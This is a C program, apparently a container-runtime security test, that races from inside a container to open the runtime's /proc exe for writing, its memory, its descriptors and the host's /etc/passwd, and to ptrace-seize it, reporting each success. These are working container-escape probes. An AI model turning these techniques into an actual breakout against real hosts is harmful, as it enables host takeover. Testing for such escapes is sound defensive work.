/* SPDX-License-Identifier: Apache-2.0 */
/*
 * thief SECONDS: from inside a container, go after every process that appears: open its
 * executable for writing, its memory, its descriptors and what lies behind its root.
 * Print "took WHAT" for each success against a process that is not one of ours, by name.
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int is_stranger(const char *pid)
{
	char path[300], name[32] = "";
	FILE *file;

	snprintf(path, sizeof path, "/proc/%s/comm", pid);
	file = fopen(path, "re");
	if (!file)
		return 0;
	if (!fgets(name, sizeof name, file))
		*name = 0;
	fclose(file);
	/* the runtime on its way to execve still has its own name */
	return !strncmp(name, "ctr", 3);
}

static void try_open(const char *pid, const char *what, int flags)
{
	char path[300], target[256] = "";
	int fd;

	snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
	fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return;
	if (readlink(path, target, sizeof target - 1) < 0)
		*target = 0;
	/* else it has become the container's own program in between */
	if (is_stranger(pid))
		printf("took %s %s\n", what, target);
	close(fd);
}

static void try_descriptors(const char *pid)
{
	char name[16];

	for (int i = 0; i < 12; i++) {
		snprintf(name, sizeof name, "fd/%d", i);
		if (i > 2)
			try_open(pid, name, O_RDONLY | O_NONBLOCK);
	}
}

/* Seized and not attached: nobody is stopped, and each is let go when it ends. */
static void try_trace(const char *pid)
{
	if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0 && is_stranger(pid))
		printf("took control\n");
}

static void let_go(void)
{
	int status, pid;

	while ((pid = waitpid(-1, &status, WNOHANG | __WALL)) > 0)
		if (WIFSTOPPED(status))
			ptrace(PTRACE_CONT, pid, 0, WSTOPSIG(status));
}

static void look_around(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc))) {
		if (entry->d_name[0] < '2' || entry->d_name[0] > '9' || !is_stranger(entry->d_name))
			continue;
		try_open(entry->d_name, "exe", O_WRONLY);
		try_open(entry->d_name, "mem", O_RDWR);
		try_open(entry->d_name, "root/etc/passwd", O_RDONLY);
		try_descriptors(entry->d_name);
		try_trace(entry->d_name);
	}
	let_go();
	if (proc)
		closedir(proc);
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);

	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("looking\n");
	while (time(NULL) < end)
		look_around();
	printf("done\n");
	return 0;
}
